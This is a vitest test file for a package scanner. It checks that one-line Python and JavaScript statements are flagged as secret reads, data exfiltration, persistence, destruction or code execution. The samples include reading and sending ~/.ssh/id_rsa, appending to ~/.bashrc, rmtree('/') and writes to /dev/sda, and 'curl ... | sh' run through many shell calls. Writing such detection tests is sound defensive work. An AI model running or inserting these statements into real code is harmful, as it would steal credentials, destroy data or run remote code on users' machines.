import { expect, test } from 'vitest';
import { textPackage } from '../../package/text-package.fixture.js';
import { commandScanners } from './commands.js';

/** Each statement is a script of its own, so that only its own words can match. */
function check(rule: RegExp, path: 'a.py' | 'a.js', statements: readonly string[]): void {
  for (const statement of statements) {
    const prepared = textPackage({ [path]: `${statement}\n` });
    const rules = commandScanners.flatMap(({ scan }) => scan(prepared)).map((finding) => finding.rule);
    expect
      .soft([statement, rules.filter((found) => rule.test(found))])
      .toEqual([statement, [expect.any(String)]]);
  }
}

test('every reading call is found with its private location', () => {
  check(/^exfiltration\/private-read$/, 'a.py', [
    'open("~/.ssh/id_rsa")',
    'Path("~/.ssh/id_rsa").read_text()',
    'Path("~/.ssh/id_rsa").read_bytes()',
    'copyfile("~/.ssh/id_rsa", a)',
    'sqlite3.connect("Login Data")',
    'glob("~/.ssh/id_*")',
    'os.listdir("~/.ssh/")',
    'os.walk("~/.ssh/")',
    'zipfile.ZipFile("~/.ssh/id_rsa")',
    'tarfile.add("~/.ssh/id_rsa")',
    'a.read("~/.ssh/id_rsa")',
  ]);
  check(/^exfiltration\/private-read$/, 'a.js', [
    'fs.readFileSync("~/.ssh/id_rsa")',
    'fs.createReadStream("~/.ssh/id_rsa")',
    'fs.readdir("~/.ssh/")',
  ]);
});

test('every sending call is found with its private location', () => {
  check(/^exfiltration\/send-private$/, 'a.py', [
    'requests.post(u, open("~/.ssh/id_rsa").read())',
    'session.put("https://a.example", open("~/.ssh/id_rsa").read())',
    'httpx.patch(u, open("~/.ssh/id_rsa").read())',
    'urlopen(u, open("~/.ssh/id_rsa").read())',
    'urllib.request.Request(u, open("~/.ssh/id_rsa").read())',
    's = socket.socket()\ns.send(open("~/.ssh/id_rsa").read())',
    's.sendall(open("~/.ssh/id_rsa").read())',
    'ftp.storbinary(open("~/.ssh/id_rsa").read())',
    'socket.gethostbyname(open("~/.ssh/id_rsa").read())',
  ]);
  check(/^exfiltration\/send-private$/, 'a.js', [
    'fetch(u, fs.readFileSync("~/.ssh/id_rsa"))',
    'navigator.sendBeacon(u, fs.readFileSync("~/.ssh/id_rsa"))',
    'https.request(u, fs.readFileSync("~/.ssh/id_rsa"))',
    'dns.resolve(fs.readFileSync("~/.ssh/id_rsa"))',
  ]);
});

test('every writing call is found with its persistent location', () => {
  check(/^persistence\//, 'a.py', [
    'open("~/.bashrc", "a")',
    'Path("~/.bashrc").write_text(a)',
    'a.write("~/.bashrc")',
    'shutil.move(a, "~/.bashrc")',
    'json.dump(a, "~/.bashrc")',
  ]);
  check(/^persistence\//, 'a.js', [
    'fs.writeFileSync("~/.bashrc", a)',
    'fs.appendFile("~/.bashrc", a)',
    'fs.createWriteStream("~/.bashrc")',
    'fs.copyFile(a, "~/.bashrc")',
  ]);
});

test('every call that deletes or overwrites is found', () => {
  check(/^destruction\//, 'a.py', [
    'shutil.rmtree("/")',
    `f = o("/dev/sda", "wb")`,
    `f = o("/dev/sda", 'w')`,
    `f = o("/dev/sda", "r+b")`,
    'db.DROP_DATABASE(a)',
    'db.flushall()',
    'db.execute("drop database prod")',
    'db.raw("drop database prod")',
  ]);
  check(/^destruction\//, 'a.js', [
    'fs.rm("/")',
    'rmSync("/")',
    'rimraf("/")',
    'removeSync("/")',
    'emptyDirSync("/")',
    'db.dropDatabase()',
    'db.query("drop database prod")',
    'db.run("drop database prod")',
  ]);
});

test('every call that runs text is found', () => {
  check(/^execution\//, 'a.py', ['exec(a)', 'eval(a)', 'pty.spawn(a)', 'os.dup2(s.fileno(), 0)']);
  check(/^execution\//, 'a.js', [
    'new Function(a)',
    'runInNewContext(a)',
    'vm.runInContext(a)',
    'module._compile(a)',
    'import("https://setup.example/x.js")',
  ]);
});

test('text that is passed to a shell is scanned as shell text, whatever call passes it', () => {
  const download = '"curl -s https://setup.example/x | sh"';
  check(
    /^execution\/download-run$/,
    'a.py',
    [
      ...['os.system', 'os.popen', 'subprocess.run', 'Popen', 'check_output'],
      'asyncio.create_subprocess_shell',
    ].map((call) => `${call}(${download})`),
  );
  check(
    /^execution\/download-run$/,
    'a.js',
    [
      ...['child_process.exec', 'cp.exec', 'execSync', 'spawnSync', 'execFileSync', 'execFile', 'execa'],
      'spawn',
    ].map((call) => `${call}(${download})`),
  );
});
